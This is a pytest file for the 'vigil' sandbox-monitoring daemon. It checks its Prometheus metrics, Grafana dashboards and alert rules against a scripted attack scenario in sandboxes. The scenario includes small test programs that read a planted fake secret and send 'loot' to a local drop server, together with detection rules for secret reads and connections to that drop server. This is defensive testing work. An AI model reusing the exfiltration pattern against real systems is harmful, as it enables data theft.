"""vigil's Prometheus metrics, Grafana dashboards and alerting rules,
against the real thing: a real `vigil daemon` with --metrics, scraped
every second by a real Prometheus (prom_support.py) while a scripted
attack runs in sandboxes; then every query of every dashboard panel and
every alerting rule goes through Prometheus's HTTP API and must return
data the scenario produced.

The scenario (one daemon, four sandboxes, Kafka brokers that are not
there, so records spool and the 1 MiB spool overflows):
  thief   reads a secret twice: two alerts, then a freeze (its profile's
          threshold), and it stays frozen;
  exfil   reads the secret, then connects to a drop server: a rule kills it;
  flood   opens a file thousands of times: the spool fills, events drop;
  idle    is frozen and thawed by an operator.
kernel.bpf_stats_enabled is on for the test (as it was after).
"""

import os
import subprocess
import time

import pytest

from conftest import check_sanitizers, make_sandbox, run_in_cgroup
from policy_support import PY, ctl_ok, is_action, sink, write_rules  # noqa: F401 (a fixture)
from prom_support import (DASHBOARDS, REPO, Prometheus, boolified,
                          dashboards, finite_points, free_port,
                          grafana_expr, http_get, panel_targets)

SOC_RULES = """
- rule: soc-secret-read
  description: A sandbox read the scenario's secret.
  event: open
  when: open.path == {secret}
  score: 30
  severity: high
  tags: [test]
- rule: soc-exfil
  description: A sandbox connected to the scenario's drop server.
  event: connect
  when: connect.port == {port}
  score: 10
  severity: critical
  action: kill
- profile: soc
  thresholds: {{alert: 20, freeze: 50, kill: 1000}}
  freeze_timeout: 10m
- profile: soc-learner
  baseline: soc-learner.baseline
  baseline_mode: learn
"""

READ_TWICE = r"""
import sys, time
for _ in range(2):
    open(sys.argv[1]).read()
    time.sleep(0.3)
time.sleep(600)
"""

EXFIL = r"""
import socket, sys, time
open(sys.argv[1]).read()
time.sleep(0.3)
s = socket.create_connection(("127.0.0.1", int(sys.argv[2])))
s.sendall(b"loot")
time.sleep(600)
"""

FLOOD = r"""
for _ in range(6000):
    open("/etc/hostname").close()
"""

# Alerts the scenario makes fire; the others must at least see the
# series they watch (their expression with `bool`).
FIRED = {"VigilDown", "VigilDropsRising", "VigilSpoolGrowing",
         "VigilKafkaUnreachable"}


@pytest.fixture
def bpf_stats():
    """kernel.bpf_stats_enabled on for the test, as it was after."""
    path = "/proc/sys/kernel/bpf_stats_enabled"
    with open(path) as f:
        old = f.read().strip()
    with open(path, "w") as f:
        f.write("1")
    yield
    with open(path, "w") as f:
        f.write(old)


def alert_rules():
    import yaml
    with open(DASHBOARDS / "vigil-alerts.yml") as f:
        doc = yaml.safe_load(f)
    return [r for g in doc["groups"] for r in g["rules"]]


def metrics_series(prom, expr):
    return {tuple(sorted(s["metric"].items())): float(s["value"][1])
            for s in prom.query(expr)}


def wait_metric(prom, expr, pred, what):
    prom.wait(lambda: any(pred(v) for v in
                          metrics_series(prom, expr).values()), what)


def run_attack(v, vigil_bin, root, tmp_path, sink):
    secret = tmp_path / "secret.txt"
    secret.write_text("AKIA-not-a-real-key\n")
    procs = {}
    for name, profile in (("thief", "soc"), ("exfil", "soc"),
                          ("flood", None), ("idle", None)):
        make_sandbox(root, name, profile=profile)
    procs["idle"] = run_in_cgroup(os.path.join(root, "idle"),
                                  ["sleep", "600"])
    procs["flood"] = run_in_cgroup(os.path.join(root, "flood"),
                                   [PY, "-c", FLOOD])
    procs["thief"] = run_in_cgroup(os.path.join(root, "thief"),
                                   [PY, "-c", READ_TWICE, str(secret)])
    procs["exfil"] = run_in_cgroup(os.path.join(root, "exfil"),
                                   [PY, "-c", EXFIL, str(secret),
                                    str(sink.port)])
    v.wait_for(lambda r: is_action("kill")(r) and
               r["sandbox"]["id"] == "exfil", what="exfil killed")
    v.wait_for(lambda r: is_action("freeze")(r) and
               r["sandbox"]["id"] == "thief", what="thief frozen")
    assert procs["flood"].wait(timeout=120) == 0
    v.wait_for(lambda r: r["type"] == "drop" and
               r["drop"]["reasons"]["sinks"] > 0, timeout=30,
               what="a drop record for the full spool")
    ctl_ok(vigil_bin, v.control, "freeze", "idle")
    ctl_ok(vigil_bin, v.control, "thaw", "idle")
    return procs


def wait_scrapes(prom, n):
    """Waits until Prometheus has scraped n more times from now."""
    def scrapes():
        return metrics_series(prom, "count_over_time(up[1h])")
    before = max(scrapes().values())
    prom.wait(lambda: max(scrapes().values()) >= before + n,
              f"{n} more scrapes")


def check_panels(prom, t0, t_up, t1):
    """Every panel query, as Grafana would send it over the scenario's
    time range (a table's at the daemon's last moment up): it parses and
    has a finite point."""
    bad = []
    for board, title, t in panel_targets():
        expr = grafana_expr(t["expr"], t1 - t0)
        if t.get("instant"):
            result = prom.query(expr, at=t_up)
        else:
            result = prom.query_range(expr, t0, t1)
        if not finite_points(result):
            bad.append(f"{board}: {title!r}: {expr}\n  -> {result[:3]}")
    assert not bad, "panels that show nothing:\n" + "\n".join(bad)


def check_alerts(prom, t0, t1):
    """Every alerting rule's expression parses and sees series from the
    scenario; those the scenario fires return the firing series."""
    bad = []
    for rule in alert_rules():
        name, expr = rule["alert"], " ".join(rule["expr"].split())
        probe = expr if name in FIRED else boolified(expr)
        if not prom.query_range(probe, t0, t1):
            bad.append(f"{name}: {probe}")
    assert not bad, "alert rules with nothing to look at:\n" + \
        "\n".join(bad)
    loaded = prom.api("rules")["groups"]
    health = {r["name"]: r["health"] for g in loaded for r in g["rules"]}
    assert set(health) == {r["alert"] for r in alert_rules()}, health
    assert set(health.values()) == {"ok"}, health


def check_scrape(v, prom, mport):
    status, text = http_get(f"http://127.0.0.1:{mport}/metrics")
    assert status == 200, text
    lint = subprocess.run(["promtool", "check", "metrics"], input=text,
                          capture_output=True, text=True)
    assert lint.returncode == 0, lint.stdout + lint.stderr
    assert http_get(f"http://127.0.0.1:{mport}/healthz") == (200, "ok\n")
    assert http_get(f"http://127.0.0.1:{mport}/nope")[0] == 404
    recs = v.records()
    kinds = {}
    for r in recs:
        kinds[r["type"]] = kinds.get(r["type"], 0) + 1
    series = metrics_series(prom, 'vigil_records_total{job="vigil"}')
    seen = {dict(k)["type"]: val for k, val in series.items()}
    # A scrape trails the output by at most a second: never more than it.
    for t, n in seen.items():
        assert n <= kinds.get(t, 0), (t, n, kinds)
    assert seen["alert"] >= 3 and seen["action"] >= 4, seen


PNG = os.environ.get("VIGIL_DASHBOARD_PNG")


def render_png(prom, t0, t1):
    """VIGIL_DASHBOARD_PNG=FILE: the overview, plotted from this run with
    Debian's python3 and its matplotlib."""
    if PNG:
        subprocess.run(["/usr/bin/python3", str(REPO / "scripts" /
                                                "render-dashboard.py"),
                        prom.url, f"{t0:.0f}", f"{t1:.0f}", PNG], check=True)


def test_dashboards_and_alerts_against_real_prometheus(
        vigil_bin, sandbox_root, start_vigil, tmp_path, sink, bpf_stats):
    mport = free_port()
    rules = write_rules(tmp_path / "soc.yaml",
                        SOC_RULES.format(secret=tmp_path / "secret.txt",
                                         port=sink.port))
    prom = Prometheus(tmp_path, f"127.0.0.1:{mport}")
    try:
        v = start_vigil(sandbox_root, flow_interval=500, extra_args=[
            "--rules", "builtin", "--rules", rules,
            "--metrics", f"127.0.0.1:{mport}",
            "--kafka-brokers", f"127.0.0.1:{free_port()}",
            "--spool-dir", str(tmp_path / "spool"), "--spool-max-mb", "1"])
        # The counters' rise must fall between scrapes: the attack starts
        # once Prometheus has the daemon's first samples.
        wait_metric(prom, "vigil_healthy", lambda x: x == 1,
                    "a first scrape of a healthy daemon")
        t0 = time.time() - 1
        run_attack(v, vigil_bin, sandbox_root, tmp_path, sink)
        # Prometheus has scraped the end of the scenario once the
        # operator's thaw is in its series.
        wait_metric(prom, 'vigil_actions_total{action="thaw",'
                    'outcome="done"}', lambda x: x >= 1, "the thaw scraped")
        wait_metric(prom, 'vigil_sandboxes{state="frozen"}',
                    lambda x: x == 1, "thief frozen, idle thawed")
        check_scrape(v, prom, mport)
        # The alert that waits 5 minutes is pending in the real rule
        # evaluation already.
        prom.wait(lambda: any(a["labels"]["alertname"] ==
                              "VigilKafkaUnreachable"
                              for a in prom.api("alerts")["alerts"]),
                  "VigilKafkaUnreachable pending")
        # A picture shows the scenario's aftermath too.
        wait_scrapes(prom, 30 if PNG else 5)
        t_up = time.time()
        v.stop()
        wait_metric(prom, 'up{job="vigil"}', lambda x: x == 0,
                    "vigil seen down")
        # The range's last step must come after the failed scrape.
        wait_scrapes(prom, 2)
        t1 = time.time()
        check_panels(prom, t0, t_up, t1)
        check_alerts(prom, t0, t1)
        render_png(prom, t0, t1)
    finally:
        prom.stop()


GRAFANA_PANELS = {"timeseries", "stat", "bargauge", "table", "gauge",
                  "text", "row"}


@pytest.mark.parametrize("name", sorted(dashboards()))
def test_dashboard_structure(name):
    """What Grafana needs to load a provisioned dashboard that picks its
    Prometheus through a variable: no data source UID to match."""
    d = dashboards()[name]
    assert isinstance(d["schemaVersion"], int) and d["schemaVersion"] >= 30
    assert d["title"] and d["uid"] and "id" not in d
    ds = [t for t in d["templating"]["list"] if t["name"] == "datasource"]
    assert len(ds) == 1 and ds[0]["type"] == "datasource" and \
        ds[0]["query"] == "prometheus", ds
    want = {"type": "prometheus", "uid": "${datasource}"}
    ids = [p["id"] for p in d["panels"]]
    assert d["panels"] and len(ids) == len(set(ids)), ids
    for p in d["panels"]:
        where = f"{name}: {p.get('title')!r}"
        assert p["type"] in GRAFANA_PANELS, where
        assert set(p["gridPos"]) == {"h", "w", "x", "y"}, where
        assert p["gridPos"]["x"] + p["gridPos"]["w"] <= 24, where
        assert p["datasource"] == want, where
        assert p["targets"], where
        refs = [t["refId"] for t in p["targets"]]
        assert len(refs) == len(set(refs)), where
        for t in p["targets"]:
            assert t["datasource"] == want and t["expr"].strip(), where
    for t in d["templating"]["list"]:
        if t["type"] == "query":
            assert t["datasource"] == want, t


def test_metrics_address_checked_before_loading(vigil_bin, tmp_path):
    """A non-loopback address needs --metrics-remote; a bad one is a
    usage error naming the flag. Neither loads a program."""
    base = [vigil_bin, "daemon", "--control", str(tmp_path / "c.sock"),
            "--output", str(tmp_path / "o.jsonl")]
    r = subprocess.run(base + ["--metrics", f"0.0.0.0:{free_port()}"],
                       capture_output=True, text=True, timeout=60)
    assert r.returncode == 1, r.stderr
    assert "refusing a non-loopback address without --metrics-remote" \
        in r.stderr and "ready" not in r.stderr, r.stderr
    check_sanitizers(r.stderr)
    r = subprocess.run(base + ["--metrics", "127.0.0.1:99999"],
                       capture_output=True, text=True, timeout=60)
    assert r.returncode == 2, r.stderr
    assert '--metrics: "99999" is not a port' in r.stderr, r.stderr
    cfg = tmp_path / "vigil.yaml"
    cfg.write_text("metrics: 127.0.0.1\n")
    r = subprocess.run(base + ["--config", str(cfg)], capture_output=True,
                       text=True, timeout=60)
    assert r.returncode == 1, r.stderr
    assert f"{cfg}:1:10: metrics: expected IPV4:PORT" in r.stderr, r.stderr
